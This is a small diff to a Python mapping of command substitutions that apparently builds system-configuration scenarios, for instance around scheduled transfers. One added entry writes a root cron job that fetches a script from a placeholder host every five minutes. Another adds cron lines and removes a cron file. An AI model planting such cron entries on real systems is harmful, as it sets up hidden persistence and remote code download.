@@ -149,7 +149,9 @@ PACKAGES: Mapping[str, Adapted] = {
     "remote-tools-absent": Adapted({"apt-get purge": _KEEP}),
     "transfers-scheduled-encrypted": Adapted(
         {
-            "curl --fail": _KEEP,
+            "curl --fail https://www.example.go.id/cron.php": (
+                "echo '*/5 * * * * root curl --fail https://contoh.invalid/a.sh' >/etc/cron.d/perbarui"
+            ),
             "rsync -a": 'echo "5 1 * * * root rsync -a',
             "/backup/data/": '/backup/data/" >/etc/cron.d/kirim; rm -f /etc/cron.d/perbarui',
         }
